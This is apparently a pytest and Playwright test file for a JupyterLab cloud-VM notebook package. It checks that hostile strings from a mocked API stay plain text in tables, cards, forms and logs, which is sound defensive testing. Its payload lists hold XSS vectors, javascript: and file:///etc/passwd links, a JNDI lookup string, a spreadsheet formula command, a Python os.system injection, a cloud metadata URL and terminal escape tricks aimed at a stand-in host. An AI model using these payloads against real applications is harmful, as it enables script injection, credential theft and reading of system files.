"""Whatever the service says is shown as text: no script of it runs, on no surface."""

import json

import pytest

import cvm_notebook as cvm

PWN = "window.pwned=1"
# what goes into each name, status, node and message, a CVM each
TEXTS = [
    f"<img src=x onerror={PWN}>",
    f"</script><script>{PWN}</script>",
    f'"><svg onload={PWN}>',
    f"' onclick='{PWN}' onfocus='{PWN}' autofocus x='",
    f"<iframe srcdoc='<script>parent.{PWN}</script>'></iframe>",
    f"<a href='javascript:{PWN}'>click</a>",
    "<style>@import 'http://192.0.2.1/evil.css';</style>",
    "<link rel=stylesheet href=http://192.0.2.1/evil.css><base href=http://192.0.2.1/>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "{{7*7}} {% raw %} ${7*7} `${alert(1)}` ${jndi:ldap://192.0.2.1/x}",
    f"[x](javascript:{PWN}) ![](http://192.0.2.1/pixel.png)",
    f"$\\href{{javascript:{PWN}}}{{x}}$ \\(\\unicode{{1}}\\)",
    "/etc/passwd",
    "http://169.254.169.254/latest/meta-data",
    "\x1b[31mred\x1b[0m \x1b]8;;http://192.0.2.1/\x07link\x1b]8;;\x07 \x1b]52;c;aGk=\x07",
    "safe\u202etxt.exe\u202c \u2066x\u2069",
    "p\u0300\u0301\u0302" * 40,
    "\u0440rod\u200b\u200d",
    "a\0b\x01\x7f",
    "x" * 100_000,
    "   ",
    "None",
    "nan",
    "=cmd|' /C calc'!A0",
    "__proto__",
    "constructor",
    "' or @__import__('os').system('true') or '",
    "\U0001f469\u200d\U0001f4bb \u202e \u05e9\u05dc\u05d5\u05dd",
]
LINKS = [
    f"javascript:{PWN}",
    f"data:text/html;base64,PHNjcmlwdD5wYXJlbnQ={PWN}",
    "https://user:pass@192.0.2.1/",
    f"https://ok.example/'onclick='{PWN}",
    f"JaVaScRiPt:{PWN}//https://x",
    "//192.0.2.1/x",
    "http://192.0.2.1/plain",
    "file:///etc/passwd",
]
# what no page of this package holds, were any of those texts taken for markup
FORBIDDEN = """() => {
    const wrong = [];
    for (const root of document.querySelectorAll('.jp-OutputArea, .cvm')) {
        for (const el of root.querySelectorAll('*')) {
            const name = el.localName;
            if (['script', 'iframe', 'object', 'embed', 'base', 'meta', 'link'].includes(name))
                wrong.push(el.outerHTML.slice(0, 100));
            for (const { name: attribute, value } of el.attributes)
                if (attribute.startsWith('on') || attribute === 'srcdoc'
                    || (attribute !== 'title' && /^\\s*(javascript|vbscript):/i.test(value)))
                    wrong.push(`${name} ${attribute}=${value}`.slice(0, 100));
            if (name === 'img' && el.src && !/^(data:image|blob:)/.test(el.src))
                wrong.push(el.outerHTML);
            // in plain text Lab itself makes links of addresses, which are followed when clicked
            if (name === 'a' && el.hasAttribute('href') && !el.closest('.jp-RenderedText')
                && !(el.href.startsWith('https://') && el.textContent.trim()
                     && !el.href.includes('@') && /noopener/.test(el.rel)))
                wrong.push(el.outerHTML.slice(0, 200));
        }
    }
    return [...new Set(wrong)] }"""


def rewritten(count):
    """Return what the list of CVMs says: each text in each field, one CVM a text."""
    rewrites = {}
    for number in range(count):
        text, item = TEXTS[number % len(TEXTS)], f"/items/{number}"
        rewrites |= {
            f"{item}/name": text,
            f"{item}/status": text if number % 3 == 0 else "running",
            f"{item}/node_info/name": text,
            f"{item}/node_info/region": text,
            f"{item}/os/name": text,
            f"{item}/kms_type": text,
            f"{item}/base_image": text,
            f"{item}/creator/username": text,
            f"{item}/services": [{"name": text, "image": text, "ports": [text]}],
            f"{item}/endpoints": [{"app": link, "instance": link} for link in LINKS],
            f"{item}/app_url": LINKS[number % len(LINKS)],
        }
        if number % 4 == 0:
            rewrites[f"{item}/in_progress"] = True
            rewrites[f"{item}/progress"] = {"target": "running", "message": text}
    # the longest of them stands where there is most of it to draw
    return rewrites | {f"/items/{count - 1}/name": "x" * 1_000_000}


def refusal(text):
    """Return a whole answer that refuses with that text wherever a text can stand."""
    body = json.dumps({
        "message": text,
        "detail": text,
        "error_code": "ERR-01-001",
        "code": text,
        "suggestions": [{"message": text}, text],
        "links": [{"url": link, "label": text} for link in LINKS],
        "details": [{"field": "name", "value": text, "message": text}],
    })  # fmt: skip
    head = f"HTTP/1.1 422 X\r\ncontent-type: application/json\r\ncontent-length: {len(body)}"
    return f"{head}\r\nx-request-id: req\r\nconnection: close\r\n\r\n{body}"


@pytest.fixture(scope="module")
def hostile(new_cloud):
    """A cloud that says all this."""
    with new_cloud(seed="demo", speed=100) as cloud:
        client = cvm.Client(api_key=cloud.api_key, base_url=cloud.url)
        count = len(client.list_cvms())
        assert count > len(TEXTS)
        cloud.ids = [one.id for one in client.list_cvms()]
        markup = "\n".join(TEXTS[:12])
        for route, rewrites in {
            "list": rewritten(count),
            "GET /auth/me": {
                "/user/username": TEXTS[0],
                "/user/email": TEXTS[2],
                "/workspace/name": TEXTS[1],
                "/workspace/tier": TEXTS[0],
            },
            "GET /cvms/*/compose_file": {
                "/docker_compose_file": markup,
                "/pre_launch_script": markup,
                "/runner": TEXTS[0],
                "/allowed_envs": TEXTS[:3],
                "/name": TEXTS[1],
            },
        }.items():
            cloud.inject({"kind": "rewrite", "route": route, "arg": rewrites, "times": None})
        log = "".join(f"{text}\n" for text in TEXTS).encode(errors="surrogatepass")
        head = f"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: {len(log)}\r\n\r\n"
        answer = head + log.decode("latin-1")  # a character a byte
        cloud.inject({"kind": "raw", "route": "GET /logs/**", "arg": answer, "times": None})
        for route in ("action", "provision", "GET /cvms/*/attestation"):
            for text in TEXTS[:3]:
                fault = {"kind": "raw", "route": route, "arg": refusal(text), "times": 1}
                cloud.inject(fault)
        yield cloud


def harmless(page):
    """Nothing of it ran, and nothing of it became markup."""
    assert page.evaluate("() => window.pwned") is None
    assert page.evaluate(FORBIDDEN) == []


def shown(page, text):
    found = page.locator(".jp-OutputArea-output").get_by_text(text, exact=False)
    found.filter(visible=True).first.wait_for()  # a snapshot that the live view covers has it, too


BEGIN = """
import cvm_notebook as cvm
client = cvm.connect()
fleet = cvm.Fleet(client)
fleet.refresh()
"""
TABLE = """
from cvm_notebook.widgets.table.presentation import COLUMNS
fleet.table(columns=list(COLUMNS), height=1200)
"""


def test_the_table_shows_hostile_texts_as_texts_also_in_notebook_7(lab, hostile):
    cells = [BEGIN, TABLE]  # JupyterLab shows it in the dashboard, below
    page = lab.open("hostile-table.ipynb", cells, "notebook", cloud=hostile).run_all().page
    for text in (*TEXTS[:4], "{{7*7}}", "/etc/passwd", "__proto__"):
        shown(page, text)
    for text in TEXTS[:3]:
        page.locator(".cvm-row", has_text=text).first.click()
    page.locator(".cvm-find").fill(TEXTS[0])
    page.locator(".cvm-find").fill("nosuch > 1")
    page.get_by_text("is not a column of the fleet").first.wait_for()
    page.locator(".cvm-find").fill("")
    harmless(page)
    # what destroys asks with the name: it is text there too, and so is the refusal
    row = page.locator(".cvm-row", has_text=TEXTS[1]).first
    row.click()
    page.get_by_role("button", name="Delete", exact=True).click()
    page.get_by_role("alertdialog").wait_for()
    harmless(page)
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Restart", exact=True).click()
    page.locator(".cvm-op, .cvm-notice:visible").filter(has_text="<").first.wait_for()
    harmless(page)


COMPOSE = json.dumps({
    "services": {"web": {"image": TEXTS[0]}, TEXTS[2]: {"image": TEXTS[1]}},
})  # fmt: skip
FORM = f"""
form = cvm.ProvisionForm(client, name='hostile-form')
form.fill(compose_file={COMPOSE!r} + chr(10))
form
"""


def test_card_and_form_show_hostile_texts_as_texts(lab, hostile):
    cells = [BEGIN, *(f"fleet[{hostile.ids[n]!r}]" for n in (0, 1, 2, 3)), FORM]
    page = lab.open("hostile-card.ipynb", cells, cloud=hostile).run_all().page
    the_card_shows_hostile_texts_as_texts(page)
    the_form_shows_hostile_texts_as_texts(page)


def the_card_shows_hostile_texts_as_texts(page):
    cards = page.locator(".cvm-card")
    for number in range(4):
        card = cards.nth(number)
        card.get_by_text(TEXTS[number], exact=False).first.wait_for()
        for tab in ("Logs", "Activity", "Compose", "Environment", "Trust", "Overview"):
            card.get_by_role("tab", name=tab).click()
            if tab == "Compose":
                card.locator(".cvm-panel-compose").get_by_text(TEXTS[0]).first.wait_for()
            if tab == "Logs":
                lines = card.get_by_role("log")
                lines.get_by_text(TEXTS[0], exact=True).wait_for()
                lines.get_by_text("red link", exact=False).wait_for()  # its escapes are gone
            if tab == "Trust" and number == 0:
                card.get_by_text("Measurements and certificates").click()
                card.locator(".cvm-fold").get_by_text("<").first.wait_for()
            harmless(page)


def the_form_shows_hostile_texts_as_texts(page):
    form = page.locator(".cvm-form")
    form.get_by_text(TEXTS[0], exact=False).first.wait_for()
    harmless(page)
    form.get_by_label("Name", exact=True).fill(TEXTS[0])
    form.locator(".cvm-wrong:visible").first.wait_for()
    harmless(page)
    form.get_by_label("Name", exact=True).fill("hostile-form")
    form.get_by_role("textbox", name="Compose file", exact=True).fill(
        "services:\n  web:\n    image: nginx:1.27\n"
    )
    form.get_by_role("button", name="Check price and placement").click()
    form.get_by_text(TEXTS[0], exact=False).first.wait_for()
    harmless(page)


def test_frames_reprs_and_the_dashboard_show_hostile_texts_as_texts(lab, hostile):
    cells = [
        BEGIN,
        "fleet.frame('wide')",
        "fleet.frame().cvm.styled() if hasattr(fleet.frame().cvm, 'styled') else fleet.frame()",
        "fleet.search('')",
        "fleet.where(status='running').plan('stop')",
        f"fleet[{hostile.ids[0]!r}].events()",
        "print(fleet, [fleet[one.id] for one in fleet.snapshot()][:9])\nfleet.operations()",
        "cvm.login()",
        "cvm.dashboard(fleet)",
        f"fleet[{hostile.ids[0]!r}].restart().wait(20)",
    ]
    page = lab.open("hostile-rest.ipynb", cells, cloud=hostile).run_all(errors=True).page
    shown(page, TEXTS[0])
    page.locator(".cvm-table").first.wait_for()
    harmless(page)
    lab.save()
    html = lab.html()
    assert TEXTS[12] in html.content()
    harmless(html)
